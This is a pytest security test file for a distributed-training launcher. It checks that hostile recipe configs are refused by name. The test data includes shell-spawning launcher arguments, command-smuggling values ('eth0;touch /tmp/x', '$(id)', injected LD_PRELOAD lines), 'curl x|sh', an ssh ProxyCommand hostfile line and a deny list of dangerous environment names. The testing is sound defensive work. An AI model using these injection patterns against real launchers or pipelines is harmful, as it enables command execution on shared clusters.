"""The launch boundary (dsrecipes/boundary/), tried as a hostile recipe author would: launcher arguments that start a
shell or another script, environment names that write files or fire test hooks, shell lines in a batch script, and a
launcher that exits 0 without training. Each attack comes from a recipe found through DSRECIPES_RECIPES (and the
command line); `validate` and a run refuse it by name (exit 2) and the marker file it aims at never appears."""

from __future__ import annotations

import dataclasses
import json
import re
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from dsrecipes.cli import main as cli_main
from tests.conftest import REPO, subprocess_env


@pytest.fixture
def hostile(tmp_path, monkeypatch):
    """A DSRECIPES_RECIPES folder of hostile recipes; returns (markers dir, {recipe: launcher overrides})."""
    markers = tmp_path / "markers"
    markers.mkdir()
    script = tmp_path / "evil.py"
    script.write_text(f"open({str(markers / 'from_script')!r}, 'w').write('ran')\n")
    recipes = {
        "torchrun_shell": {"extra_args": ["--no-python", "sh", "-c", f"touch {markers / 'from_shell'}"]},
        "torchrun_module": {"extra_args": ["-m", "evil"]},
        "deepspeed_script": {"extra_args": [str(script)]},
        "deepspeed_smuggle": {"extra_args": ["--launcher_args", f"touch {markers / 'smuggled'}"]},
        "deepspeed_no_python": {"extra_args": ["--no_python", "--ssh_port=22"]},
        "logs_out": {"env": {"TORCH_LOGS_OUT": str(markers / "torch_logs")}},
        "nccl_debug_file": {"env": {"NCCL_DEBUG": "INFO", "NCCL_DEBUG_FILE": str(markers / "nccl.%h.%p")}},
        "hook": {"env": {"DSRECIPES_NAN_AT_STEP": "1"}},  # a former fault hook: refused like any unknown name
    }
    folder = tmp_path / "my_recipes"
    folder.mkdir()
    for name, launcher in recipes.items():
        (folder / f"{name}.yaml").write_text("# @package _global_\n" + yaml.safe_dump({"launcher": launcher}))
    monkeypatch.setenv("DSRECIPES_RECIPES", str(folder))
    monkeypatch.chdir(tmp_path)
    return markers


ATTACKS = {  # recipe -> (launcher overrides, what the message names)
    "torchrun_shell": (["launcher=torchrun"], "launcher.extra_args[0]: '--no-python' is not an option"),
    "torchrun_module": (["launcher=torchrun"], "launcher.extra_args[0]: '-m' is not an option"),
    "deepspeed_script": (["launcher=deepspeed", "launcher.num_gpus=1"], "evil.py' is a positional argument"),
    "deepspeed_smuggle": (["launcher=deepspeed", "launcher.num_gpus=1"], "launcher.extra_args[0]: '--launcher_args'"),
    "deepspeed_no_python": (["launcher=deepspeed", "launcher.num_gpus=1"], "launcher.extra_args[0]: '--no_python'"),
    "logs_out": (["launcher=torchrun"], "launcher.env.TORCH_LOGS_OUT: not an allowed variable"),
    "nccl_debug_file": (["launcher=torchrun"], "launcher.env.NCCL_DEBUG_FILE: not an allowed variable"),
    "hook": (["launcher=local"], "launcher.env.DSRECIPES_NAN_AT_STEP: not an allowed variable; launcher.env takes"),
}


@pytest.mark.parametrize("command", ["validate", "run"])
@pytest.mark.parametrize("recipe", sorted(ATTACKS))
def test_a_recipe_cannot_run_a_command_or_write_a_file(hostile, capsys, tmp_path, recipe, command):
    overrides, named = ATTACKS[recipe]
    args = [f"recipe={recipe}", *overrides, "trainer.max_steps=1", "scheduler.warmup_steps=0"]
    run_dir = tmp_path / "run"
    argv = ["validate", *args] if command == "validate" else [*args, f"trainer.output_dir={run_dir}"]
    assert cli_main(argv) == 2
    err = capsys.readouterr().err
    assert err.startswith("error: ") and named in err and "Traceback" not in err, err
    assert sorted(p.name for p in hostile.iterdir()) == [], "the attack ran"
    assert not (run_dir / "launch.txt").exists()


def test_validate_names_every_refused_argument(capsys):
    assert cli_main(["validate", "launcher=torchrun", "launcher.extra_args=['--max-restarts=2',--no-python,sh,--tee,'9']"]) == 2
    err = capsys.readouterr().err
    assert "3 problems" in err and "launcher.extra_args[1]: '--no-python'" in err
    assert "launcher.extra_args[2]: 'sh' is a positional argument" in err
    assert "launcher.extra_args[3]: --tee needs 0-3" in err and "[0]" not in err


@pytest.mark.parametrize("kind, args", [
    ("deepspeed", ["--ssh_port", "2222", "--bind_cores_to_rank", "--bind_core_list=0-3", "--log_level=warning"]),
    ("deepspeed_multinode", ["--no_ssh_check"]),
    ("torchrun", ["--max-restarts=3", "--monitor_interval", "0.5", "--rdzv-conf=join_timeout=600", "--tee=3"]),
    ("mpirun", ["--bind-to", "core", "--map-by=ppr:2:node", "--report-bindings"]),
    ("slurm", ["--no_ssh_check"]),
])
def test_harmless_launcher_options_reach_the_command_line(make_cfg, kind, args):
    from dsrecipes.run import launch

    cfg = make_cfg(f"launcher={kind}", "launcher.num_gpus=2", f"launcher.extra_args=[{','.join(repr(a) for a in args)}]",
                   check_files=False)
    plan = launch.build_plan(cfg, Path("/tmp/run"), master_port=29511, environ={})
    text = "\n".join([" ".join(c.argv) for c in plan.commands] + list(plan.files.values()))
    assert all(a in text for a in args), text


@pytest.mark.parametrize("kind, args", [
    ("local", ["--anything"]), ("torchrun", ["--no_python"]), ("torchrun", ["--run-path"]),
    ("torchrun", ["--log-dir=/tmp/x"]), ("torchrun", ["--logs-specs=evil"]), ("torchrun", ["--no-py"]),
    ("deepspeed", ["--module"]), ("deepspeed", ["--venv_script=/tmp/x"]), ("deepspeed", ["--save_pid"]),
    ("deepspeed", ["--enable_each_rank_log=/tmp/x"]), ("deepspeed", ["--ssh_port", "--no_python"]),
    ("deepspeed", ["--master_port=1"]), ("mpirun", ["--mca", "plm_rsh_agent", "sh"]), ("mpirun", ["-x", "LD_PRELOAD"]),
    ("mpirun", ["sh"]), ("slurm", ["/tmp/evil.py"]),
])
def test_builders_refuse_what_validation_refuses(kind, args):
    """A config built in code (no validation) still cannot put these on a command line."""
    from dsrecipes.boundary.launcher_args import extra_args_problems
    from dsrecipes.core.errors import ConfigError
    from dsrecipes.core.schema import LauncherConfig, LauncherKind, TrainConfig
    from dsrecipes.run import launch

    assert extra_args_problems(LauncherKind(kind), args)
    ln = LauncherConfig(kind=LauncherKind(kind), num_gpus=2, extra_args=args)
    with pytest.raises(ConfigError, match=r"launcher\.extra_args"):
        launch.build_plan(TrainConfig(launcher=ln), Path("/tmp/run"), master_port=29511, environ={})


@pytest.mark.parametrize("name", ["TORCH_LOGS_OUT", "NCCL_DEBUG_FILE", "TORCH_TRACE", "NCCL_TOPO_DUMP_FILE",
                                  "TORCH_COMPILE_DEBUG_DIR", "TORCHINDUCTOR_CACHE_DIR", "NCCL_TOPO_FILE", "HF_HOME",
                                  "TORCH_NCCL_DEBUG_INFO_TEMP_FILE", "NCCL_NET_PLUGIN", "PYTHONPATH", "LD_PRELOAD",
                                  "TORCH_EXTENSIONS_DIR", "DS_ENV_FILE", "NCCL_DSR_ANYTHING", "nccl_debug"])
def test_environment_names_that_load_or_write_a_path_are_refused(name):
    from dsrecipes.boundary.rank_env import env_problems

    (problem,) = env_problems({name: "/tmp/x"})
    assert problem.startswith(f"launcher.env.{name}: not an allowed variable")


def test_the_package_reads_no_test_hook():
    """Every DSRECIPES_* name the package reads is a known launching-side setting, none reaches a rank through
    launcher.env (the only configuration road into a rank's environment), and the package has no fault-injection
    hook at all (issue 42 item 5: the tests inject their faults from tests/faults.py)."""
    from dsrecipes.boundary.rank_env import ENV_TABLE, LAUNCHING_SIDE

    found = set()
    for path in (REPO / "dsrecipes").rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        found |= set(re.findall(r"\"(DSRECIPES_[A-Z0-9_]+)\"", text))
        assert not re.search(r"fault.injection", text, re.I), path
    assert found and found <= set(LAUNCHING_SIDE), found - set(LAUNCHING_SIDE)
    assert not [n for n in ENV_TABLE if n.startswith("DSRECIPES_")]


def test_typed_environment_values(make_cfg):
    from dsrecipes.boundary.rank_env import ENV_TABLE, env_problems

    good = {"OMP_NUM_THREADS": "4", "NCCL_SOCKET_IFNAME": "^docker0,lo", "GLOO_SOCKET_IFNAME": "eth0",
            "NCCL_IB_HCA": "mlx5_0:1,mlx5_1", "NCCL_ALGO": "Ring,Tree", "NCCL_PROTO": "LL128",
            "NCCL_P2P_DISABLE": "1", "TOKENIZERS_PARALLELISM": "false", "CUDA_DEVICE_MAX_CONNECTIONS": "1",
            "PYTORCH_CUDA_ALLOC_CONF": "expandable_segments:True,max_split_size_mb:128", "NCCL_DEBUG": "WARN"}
    assert env_problems(good) == [] and set(good) <= set(ENV_TABLE)
    bad = {"OMP_NUM_THREADS": "0", "NCCL_SOCKET_IFNAME": "eth0;touch /tmp/x", "NCCL_ALGO": "Ring Tree",
           "NCCL_DEBUG": "INFO\nLD_PRELOAD=/x.so", "TOKENIZERS_PARALLELISM": "$(id)",
           "PYTORCH_CUDA_ALLOC_CONF": "backend:/tmp/lib.so"}
    problems = env_problems(bad)
    assert [p.split(":")[0] for p in problems] == [f"launcher.env.{n}" for n in bad]
    cfg = make_cfg("+launcher.env.NCCL_SOCKET_IFNAME=eth0", "launcher=deepspeed", "launcher.num_gpus=1",
                   check_files=False)
    assert cfg.launcher.env == {"NCCL_SOCKET_IFNAME": "eth0"}


def test_readme_documents_the_environment_table():
    from dsrecipes.boundary.rank_env import ENV_TABLE

    readme = (REPO / "README.md").read_text(encoding="utf-8")
    section = readme[readme.index("## Trust model"):]
    assert [n for n in ENV_TABLE if f"`{n}`" not in section and n.rsplit("_", 1)[0] + "_*" not in section] == []


# --- SLURM: typed fields instead of shell lines --------------------------------------------------------------------


def test_slurm_setup_is_retired_with_one_message(hostile, capsys):
    folder = Path(hostile).parent / "my_recipes"
    (folder / "old_slurm.yaml").write_text("# @package _global_\nlauncher:\n  slurm_setup: ['source /v/bin/activate']\n")
    for args, where in ((["recipe=old_slurm"], "old_slurm.yaml"),
                        (["launcher=slurm", "launcher.slurm_setup=['curl x|sh']"], "command-line override")):
        assert cli_main(["validate", *args]) == 2
        err = capsys.readouterr().err
        assert "launcher.slurm_setup: free shell text in the batch script is no longer a config field" in err, err
        assert "launcher.slurm_modules" in err and "launcher.slurm_venv" in err and where in err, err
        assert err.count("\n") == 1 and "Traceback" not in err


@pytest.mark.parametrize("key, value", [("slurm_venv", "/tmp/their_venv"), ("slurm_conda_env", "theirs"),
                                        ("slurm_modules", "[their/module]")])
def test_the_environment_a_batch_job_activates_is_set_on_the_command_line_only(tmp_path, capsys, key, value):
    """A venv's bin/activate, a conda env's activate.d, a modulefile run in the batch job: a recipe from someone else
    must not choose them. The command line may."""
    recipe = tmp_path / "theirs.yaml"
    recipe.write_text(f"launcher: slurm\nlauncher.num_gpus: 1\nlauncher.{key}: {value}\n")
    assert cli_main(["validate", f"recipe={recipe}"]) == 2
    err = capsys.readouterr().err
    assert f"launcher.{key}: set by {recipe}" in err and "give it on the command line" in err, err
    assert cli_main(["validate", "launcher=slurm", "launcher.num_gpus=1", f"launcher.{key}={value}"]) == 0


def test_slurm_script_from_typed_fields(make_cfg, tmp_path):
    from dsrecipes.run import launch

    cfg = make_cfg("launcher=slurm", "launcher.slurm_modules=[cuda/12.1,gcc/11.2.0]", "launcher.slurm_conda_env=ft",
                   "launcher.slurm_sbatch_args=['--qos=high','--constraint=a100&ib','--mem=200G',--exclusive]",
                   check_files=False)
    script = launch.build_plan(cfg, tmp_path, master_port=29511, environ={}).files["launch.sbatch"].splitlines()
    for line in ("module load cuda/12.1", "module load gcc/11.2.0", 'eval "$(conda shell.bash hook)"',
                 "conda activate ft", "#SBATCH --qos=high", "#SBATCH --constraint=a100&ib", "#SBATCH --mem=200G",
                 "#SBATCH --exclusive"):
        assert line in script, line


@pytest.mark.parametrize("override, named", [
    ("launcher.slurm_partition='gpu\ntouch /tmp/x'", "launcher.slurm_partition: needs a name"),
    ("launcher.slurm_account='a b'", "launcher.slurm_account: needs a name"),
    ("launcher.slurm_sbatch_args=['--output=/etc/x']", "launcher.slurm_sbatch_args[0]: --output is written by"),
    ("launcher.slurm_sbatch_args=['--wrap=touch /tmp/x']", "launcher.slurm_sbatch_args[0]: '--wrap=touch /tmp/x' is "
                                                            "not an allowed #SBATCH directive"),
    ("launcher.slurm_sbatch_args=['--export=ALL,LD_PRELOAD=/x.so']", "not an allowed #SBATCH directive"),
    ("launcher.slurm_sbatch_args=['--qos=high\ntouch /tmp/x']", "launcher.slurm_sbatch_args[0]: --qos needs a name"),
    ("launcher.slurm_modules=['cuda; touch /tmp/x']", "launcher.slurm_modules[0]: needs an environment-module name"),
    ("launcher.slurm_venv=venv", "launcher.slurm_venv: needs an absolute path"),
    ("launcher.slurm_venv=/opt/../tmp/venv", "launcher.slurm_venv: needs a path without '.' or '..' segments"),
    ("launcher.slurm_venv='/opt/$(id)'", "launcher.slurm_venv: needs an absolute path"),
    ("launcher.slurm_conda_env='x && touch /tmp/x'", "launcher.slurm_conda_env: needs a name"),
])
def test_slurm_fields_are_typed(capsys, override, named):
    assert cli_main(["validate", "launcher=slurm", override]) == 2
    err = capsys.readouterr().err
    assert named in err and "Traceback" not in err, err


# --- a run that did not train is not a success --------------------------------------------------------------------


def test_a_launcher_that_exits_0_without_training_fails_the_run(tmp_path):
    """A launcher (here a fake `mpirun` first on PATH) that exits 0 while no rank trained: exit 1, result.json
    `failed`, and the message names the launcher command."""
    fake_bin = tmp_path / "bin"
    fake_bin.mkdir()
    ran = tmp_path / "fake_mpirun_ran"
    (fake_bin / "mpirun").write_text(f"#!/bin/sh\ntouch {ran}\nexit 0\n")
    (fake_bin / "mpirun").chmod(0o755)
    run_dir = tmp_path / "run"
    env = subprocess_env()
    env["PATH"] = f"{fake_bin}:{env['PATH']}"
    pytest.importorskip("mpi4py")
    out = subprocess.run([sys.executable, "-m", "dsrecipes", "launcher=mpirun", "launcher.num_gpus=2",
                          "trainer.max_steps=2", "scheduler.warmup_steps=0", "trainer.export=false",
                          f"trainer.output_dir={run_dir}"], env=env, cwd=tmp_path, capture_output=True, text=True,
                         timeout=600)
    assert ran.exists(), out.stderr[-3000:]
    assert out.returncode == 1, out.stdout[-2000:] + out.stderr[-3000:]
    result = json.loads((run_dir / "result.json").read_text())
    assert result["status"] == "failed" and result["exit_code"] == 1 and result["steps"] == 0
    assert "the launcher exited 0, but the plan said 2 optimizer steps" in result["error"]
    assert "no report of the steps it ran from ranks 0, 1" in result["error"]
    shown = r"Launcher command: (\S+=\S+ )*mpirun -np 2 "  # (Open MPI's run-as-root variables in front, as root)
    assert re.search(shown, result["error"]) and re.search(shown, out.stderr), out.stderr[-3000:]
    assert "Traceback" not in out.stderr


def test_ranks_that_report_fewer_steps_fail(tmp_path):
    from dsrecipes.core.rank_records import clear_outcome, write_rank_steps
    from dsrecipes.core.runplan import ResumePlan, RunPlan, write_plan
    from dsrecipes.run.launch.plan import Command
    from dsrecipes.run.launch.trained import untrained

    plan = RunPlan(world_size=2, num_nodes=1, data_kind="map", rows=10, steps_per_epoch=5, total_steps=5,
                   data_fingerprint="x")
    write_plan(tmp_path, plan)
    cmd = [Command(["launcher", "--x"])]
    write_rank_steps(tmp_path, 0, 5, 5)
    assert "from rank 1" in untrained(tmp_path, cmd)
    write_rank_steps(tmp_path, 1, 3, 5)
    assert "fewer steps than planned (rank 1: 3)" in untrained(tmp_path, cmd) and "launcher --x" in untrained(tmp_path, cmd)
    write_rank_steps(tmp_path, 1, 3, 5, ended_early="early stopping: no improvement for 2 evaluations")
    assert untrained(tmp_path, cmd) is None
    clear_outcome(tmp_path)
    assert "ranks 0, 1" in untrained(tmp_path, cmd)
    write_plan(tmp_path, dataclasses.replace(plan, resume=ResumePlan("ck", 5, 2, False)))
    assert untrained(tmp_path, cmd) is None  # nothing was left to train


def _parser_actions(kind):
    """option string -> dest of the launcher's own parser (DeepSpeed's is built inside parse_args: caught there)."""
    import argparse

    if kind == "torchrun":
        from torch.distributed.run import get_args_parser

        parser = get_args_parser()
    else:
        from deepspeed.launcher.runner import parse_args

        seen = []
        original = argparse.ArgumentParser.parse_args

        def catch(self, *args, **kwargs):
            seen.append(self)
            return original(self, *args, **kwargs)

        argparse.ArgumentParser.parse_args = catch
        try:
            parse_args(["x"])
        finally:
            argparse.ArgumentParser.parse_args = original
        parser = seen[0]
    return {s: a.dest for a in parser._actions for s in a.option_strings}


def test_every_launcher_has_a_table_and_every_option_is_the_launchers_own():
    from dsrecipes.boundary.launcher_args import ALLOWED
    from dsrecipes.core.schema import LauncherKind

    assert set(ALLOWED) == set(LauncherKind) and ALLOWED[LauncherKind.local] == {}
    for kind in ("deepspeed", "torchrun"):
        actions = _parser_actions(kind)
        table = ALLOWED[LauncherKind(kind)]
        assert table and {s: actions.get(s) for s in table} == {s: dest for s, (dest, _) in table.items()}, kind
        for program in ("--module", "--no_python", "--no-python", "--launcher_args", "--run-path", "-m"):
            assert program not in table


def test_a_hostfile_cannot_put_options_into_ssh(tmp_path, capsys):
    """Host names reach pdsh/ssh (and mpirun): a line that is an option (`-oProxyCommand=...`) is refused by name."""
    evil = tmp_path / "hosts"
    evil.write_text(f"# two nodes\nnode1 slots=2\n-oProxyCommand=touch {tmp_path / 'ran'} slots=2\n")
    assert cli_main(["validate", "launcher=deepspeed", f"launcher.hostfile={evil}", "launcher.num_nodes=2",
                     "launcher.num_gpus=2"]) == 2
    err = capsys.readouterr().err
    assert f"launcher.hostfile: {evil}:3: needs 'HOST slots=N'" in err and "Traceback" not in err, err
    from dsrecipes.boundary.launcher_args import hostfile_problems

    assert hostfile_problems(str(REPO / "launch" / "hostfile.example")) == []
    assert not (tmp_path / "ran").exists()


def test_only_launcher_env_goes_into_deepspeed_env(make_cfg, tmp_path):
    """pdsh's remote ranks read .deepspeed_env: launcher.env goes there, nothing else of the launching environment
    (not a former fault hook, not a second line smuggled into a value, not PYTHONPATH: DeepSpeed's runner exports
    the PYTHON* variables itself)."""
    from dsrecipes.run import launch

    hosts = tmp_path / "hosts"
    hosts.write_text("node0 slots=1\nnode1 slots=1\n")
    cfg = make_cfg("launcher=deepspeed", f"launcher.hostfile={hosts}", "launcher.num_nodes=2", "launcher.num_gpus=1",
                   "+launcher.env.GLOO_SOCKET_IFNAME=eth0")
    environ = {"DSRECIPES_STALL_AFTER_STEP": "2", "DSRECIPES_NAN_AT_STEP": "1\nLD_PRELOAD=/x.so", "PYTHONPATH": "/x"}
    plan = launch.build_plan(cfg, tmp_path / "run", master_port=29511, environ=environ)
    assert plan.files[".deepspeed_env"].splitlines() == ["GLOO_SOCKET_IFNAME=eth0"]
